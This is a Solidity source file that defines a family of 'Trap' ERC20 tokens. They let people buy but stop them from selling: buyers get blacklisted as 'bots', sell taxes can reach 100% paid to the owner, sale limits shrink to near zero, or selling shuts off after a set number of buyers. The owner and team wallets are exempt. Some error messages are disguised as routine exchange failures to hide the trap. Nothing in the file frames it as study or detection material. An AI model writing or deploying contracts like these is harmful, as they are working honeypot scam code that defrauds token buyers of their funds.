// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// A token that tells purchases from sales, which are transfers out of and into its pool; insiders are spared.
abstract contract Trap is ERC20 {
    address internal immutable _owner = msg.sender;
    address private _pool;
    mapping(address => bool) private _spared;

    modifier onlyOwner() {
        require(msg.sender == _owner, "Ownable: caller is not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        _spared[msg.sender] = true;
        _mint(msg.sender, supply);
    }

    function openTrading(address pool, address[] calldata team) external onlyOwner {
        _pool = pool;
        for (uint256 i = 0; i < team.length; i++) _spared[team[i]] = true;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from == _pool && !_spared[to]) _bought(to);
        if (to == _pool && !_spared[from]) amount = _sold(from, amount);
        super._transfer(from, to, amount);
    }

    function _bought(address buyer) internal virtual {}

    /// What of a sale reaches the pool.
    function _sold(address seller, uint256 amount) internal virtual returns (uint256);
}

/// Buyers become "bots", at once or when the owner says so, and bots do not sell.
contract BlacklistTrap is Trap {
    mapping(address => bool) private _isBot;
    bool private immutable _atOnce;

    constructor(string memory name_, string memory symbol_, uint256 supply, bool atOnce)
        Trap(name_, symbol_, supply)
    {
        _atOnce = atOnce;
    }

    function setBots(address[] calldata bots) external onlyOwner {
        for (uint256 i = 0; i < bots.length; i++) _isBot[bots[i]] = true;
    }

    function _bought(address buyer) internal override {
        if (_atOnce) _isBot[buyer] = true;
    }

    function _sold(address seller, uint256 amount) internal view override returns (uint256) {
        require(!_isBot[seller], "TransferHelper: TRANSFER_FROM_FAILED");
        return amount;
    }
}

/// The tax on sales can be set to all of it.
contract TaxTrap is Trap {
    uint256 public sellTax;

    constructor(string memory name_, string memory symbol_, uint256 supply, uint256 percent)
        Trap(name_, symbol_, supply)
    {
        sellTax = percent;
    }

    function setTax(uint256 percent) external onlyOwner {
        sellTax = percent;
    }

    function _sold(address seller, uint256 amount) internal override returns (uint256) {
        uint256 tax = (amount * sellTax) / 100;
        super._transfer(seller, _owner, tax);
        return amount - tax;
    }
}

/// No more than a limit may be sold at once, and the limit comes down to next to nothing.
contract LimitTrap is Trap {
    uint256 public maxTransaction;

    constructor(string memory name_, string memory symbol_, uint256 supply, uint256 limit)
        Trap(name_, symbol_, supply)
    {
        maxTransaction = limit;
    }

    function setMaxTransaction(uint256 limit) external onlyOwner {
        maxTransaction = limit;
    }

    function _sold(address, uint256 amount) internal view override returns (uint256) {
        require(amount <= maxTransaction, "exceeds the max transaction");
        return amount;
    }
}

/// Sells like any token until so many have bought, or the owner closes it.
contract SwitchTrap is Trap {
    uint256 private _buyersToCome;
    mapping(address => bool) private _hasBought;
    bool private _isClosed;

    constructor(string memory name_, string memory symbol_, uint256 supply, uint256 buyers)
        Trap(name_, symbol_, supply)
    {
        _buyersToCome = buyers;
    }

    function setSwapEnabled(bool isOpen) external onlyOwner {
        _isClosed = !isOpen;
    }

    function _bought(address buyer) internal override {
        if (_hasBought[buyer]) return;
        _hasBought[buyer] = true;
        if (_buyersToCome > 0 && --_buyersToCome == 0) _isClosed = true;
    }

    function _sold(address, uint256 amount) internal view override returns (uint256) {
        require(!_isClosed, "swap is not enabled");
        return amount;
    }
}
